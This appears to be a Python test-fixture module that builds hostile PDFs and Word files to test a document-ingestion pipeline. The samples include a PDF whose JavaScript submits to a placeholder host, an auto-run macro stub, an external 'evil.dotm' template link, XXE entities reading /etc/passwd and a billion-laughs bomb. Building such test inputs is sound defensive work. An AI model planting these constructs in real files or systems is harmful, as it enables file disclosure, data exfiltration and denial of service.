"""Hostile input files built at test time: PDFs with an owner password, scripts, attachments or
only an image; Word packages with macros, external links, OLE objects or entities; and so on."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
from pathlib import Path

from cryptography.hazmat.decrepit.ciphers.algorithms import ARC4
from cryptography.hazmat.primitives.ciphers import Cipher

from tests.ingest.samples import _assemble_pdf, word_document

_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")
_PAGE = b"BT /F1 12 Tf 72 720 Td 14 TL (%s) Tj ET"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _rc4(key: bytes, data: bytes) -> bytes:
    return Cipher(ARC4(key), mode=None).encryptor().update(data)


def _page_objects(text: bytes, extra_page_entries: bytes = b"") -> list[bytes]:
    ops = _PAGE % text
    return [
        b"<< /Type /Catalog /Pages 2 0 R %s >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> %s >> >>" % extra_page_entries,
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(ops), ops),
        _FONT,
    ]


def owner_password_pdf(text: bytes, owner: bytes = b"owner secret") -> bytes:
    """A PDF anyone can open (empty user password) whose owner password restricts copying and
    printing: RC4 40-bit, revision 2 of the standard security handler, its stream encrypted."""
    file_id = b"\x01" * 16
    owner_key = hashlib.md5((owner + _PAD)[:32]).digest()[:5]
    o_entry = _rc4(owner_key, _PAD)  # the user password (empty, padded) under the owner key
    permissions = -3904  # no printing, no copying
    key = hashlib.md5(_PAD + o_entry + struct.pack("<i", permissions) + file_id).digest()[:5]
    u_entry = _rc4(key, _PAD)
    objects = _page_objects(text)
    objects[0] = objects[0] % b""
    stream_key = hashlib.md5(key + struct.pack("<I", 4)[:3] + b"\x00\x00").digest()[:10]
    ops = _PAGE % text
    sealed = _rc4(stream_key, ops)
    objects[3] = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(sealed), sealed)
    objects.append(
        b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>"
        % (o_entry.hex().encode(), u_entry.hex().encode(), permissions)
    )
    trailer = b"/Root 1 0 R /Encrypt 6 0 R /ID [<%s> <%s>]" % (file_id.hex().encode(), file_id.hex().encode())
    return _assemble_pdf(objects, trailer)


def scanned_pdf() -> bytes:
    """A page holding only an image (a grey 8×8 'scan') and no text at all."""
    image = b"\x80" * 64
    ops = b"q 612 0 0 792 0 0 cm /Im1 Do Q"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /XObject << /Im1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(ops), ops),
        b"<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8 /Length %d >>\nstream\n%s\nendstream" % (len(image), image),
    ]
    return _assemble_pdf(objects, b"/Root 1 0 R")


def scripted_pdf(text: bytes) -> bytes:
    """A PDF that runs JavaScript when opened and carries an attached file."""
    objects = _page_objects(text)
    objects[0] = (
        objects[0] % b"/OpenAction 6 0 R /Names << /EmbeddedFiles << /Names [(payload.exe) 7 0 R] >> >>"
    )
    objects.append(
        b"<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://example.invalid/');) >>"
    )
    attached = b"MZ attached executable ATTACHEDPAYLOAD"
    objects.append(b"<< /Type /Filespec /F (payload.exe) /EF << /F 8 0 R >> >>")
    objects.append(b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(attached), attached))
    return _assemble_pdf(objects, b"/Root 1 0 R")


def looping_pdf() -> bytes:
    """A page tree whose Pages node lists itself as its own kid."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length 39 >>\nstream\nBT /F1 12 Tf 72 720 Td (Loop page) Tj ET\nendstream",
        _FONT,
    ]
    return _assemble_pdf(objects, b"/Root 1 0 R")


def _rewrite_package(
    path: Path, changes: dict[str, tuple[bytes, bytes]], *, extra: dict[str, bytes] | None = None
) -> bytes:
    """The .docx at `path` with a member's bytes changed (old → new, once) and members added."""
    out = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename in changes:
                old, new = changes[item.filename]
                assert old in data, (item.filename, old)
                data = data.replace(old, new, 1)
            target.writestr(item.filename, data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def macro_document(folder: Path) -> bytes:
    """A macro-enabled Word document (.docm): its content type and a vbaProject.bin."""
    base = word_document(folder / "base-macro.docx", paragraphs=["Macro document body about Kunduz."])
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return _rewrite_package(
        base,
        {"[Content_Types].xml": (main, macro)},
        extra={"word/vbaProject.bin": b'\xd0\xcf\x11\xe0 Attribute VB_Name AutoOpen Shell("calc")'},
    )


def external_links_document(folder: Path) -> bytes:
    """A .docx whose relationships point outside it: a remote template and a remote image."""
    base = word_document(folder / "base-ext.docx", paragraphs=["Linked document body about Herat."])
    rels = (
        b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://example.invalid/evil.dotm" TargetMode="External"/>'
        b'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    )
    return _rewrite_package(base, {"word/_rels/document.xml.rels": (b"</Relationships>", rels)})


def ole_object_document(folder: Path) -> bytes:
    """A .docx carrying an embedded OLE object (an old-style attachment)."""
    base = word_document(folder / "base-ole.docx", paragraphs=["Document with an embedded object."])
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"EMBEDDEDOLEPAYLOAD" * 100
    return _rewrite_package(base, {}, extra={"word/embeddings/oleObject1.bin": ole})


def entity_document(folder: Path, *, laughs: bool) -> bytes:
    """A .docx whose body declares entities: one reading /etc/passwd, or a billion laughs."""
    base = word_document(folder / "base-ent.docx", paragraphs=["ENTITYBODY"])
    if laughs:
        lol = b'<!ENTITY a "lollollollollollollollollollol">' + b"".join(
            b'<!ENTITY %c "%s">' % (ord("b") + i, (b"&%c;" % (ord("a") + i)) * 10) for i in range(8)
        )
        doctype, use = b"<!DOCTYPE w:document [" + lol + b"]>", b"&i;"
    else:
        doctype, use = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"&xxe;"
    with zipfile.ZipFile(base) as package:
        body = package.read("word/document.xml")
    head_end = body.index(b"?>") + 2
    body = body[:head_end] + doctype + body[head_end:].replace(b"ENTITYBODY", b"Entity " + use, 1)
    return _replace_member(base, "word/document.xml", body)


def _replace_member(path: Path, name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, data if item.filename == name else source.read(item.filename))
    return out.getvalue()


RTF = rb"{\rtf1\ansi{\fonttbl\f0\fswiss Helvetica;}\f0\pard Taliban detained five soldiers.\par}"
OLE_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"WordDocument".join([b"\x00" * 64] * 4)
